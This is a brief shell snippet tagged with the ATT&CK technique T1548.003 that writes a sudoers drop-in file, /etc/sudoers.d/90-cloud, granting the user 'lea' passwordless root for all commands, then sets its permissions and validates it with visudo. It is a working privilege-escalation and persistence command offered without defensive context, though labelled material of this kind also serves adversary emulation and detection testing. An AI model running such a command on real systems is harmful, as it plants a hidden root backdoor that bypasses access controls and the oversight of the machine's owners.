# technique: T1548.003
# location: linux.sudoers
# source: /etc/sudoers.d/90-cloud
echo 'lea ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-cloud
chmod 440 /etc/sudoers.d/90-cloud
visudo -c
